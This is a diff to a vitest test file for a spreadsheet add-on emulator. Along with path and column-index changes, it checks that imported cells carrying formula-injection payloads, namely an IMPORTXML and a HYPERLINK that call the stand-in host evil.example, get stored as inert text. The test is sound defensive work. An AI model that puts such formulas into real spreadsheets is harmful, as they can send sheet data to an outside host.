@@ -5,8 +5,8 @@
  * without the preview's confirmation; who may import once shared.
  */
 import { afterEach, describe, expect, it } from 'vitest';
-import { KPI_TAB_NAME } from '../../src/core/kpi/kpi-columns';
-import { createEmulator, type Emulator, type SheetSnapshot } from '../../src/preview/addon-emulator';
+import { KPI_TAB_NAME, kpiColumnIndex } from '../../src/core/kpi/kpi-columns';
+import { createEmulator, type Emulator, type SheetSnapshot } from '../../packages/preview/addon-emulator';
 import { buildKpiTemplate } from '../../src/server/actions/kpi-template-actions';
 import { shareWithTeam } from '../../src/server/actions/share-actions';
 import { getSidebarState } from '../../src/server/actions/sidebar-state-actions';
@@ -370,8 +370,9 @@ describe('applying a file', () => {
       'New channel: =IMPORTXML("http://evil.example", "//a")',
     );
     const kpi = emulator.snapshot(KPI_TAB_NAME);
-    expect(kpi.values[1]?.[1]).toBe('=IMPORTXML("http://evil.example", "//a")');
-    expect(kpi.formulas[1]?.[1]).toBe('');
+    const channel = kpiColumnIndex('channel');
+    expect(kpi.values[1]?.[channel]).toBe('=IMPORTXML("http://evil.example", "//a")');
+    expect(kpi.formulas[1]?.[channel]).toBe('');
     const roles = emulator.snapshot('Roles');
     expect(roles.values[14]?.[0]).toBe('+HYPERLINK("http://evil.example")');
     expect(roles.formulas[14]?.[0]).toBe('');
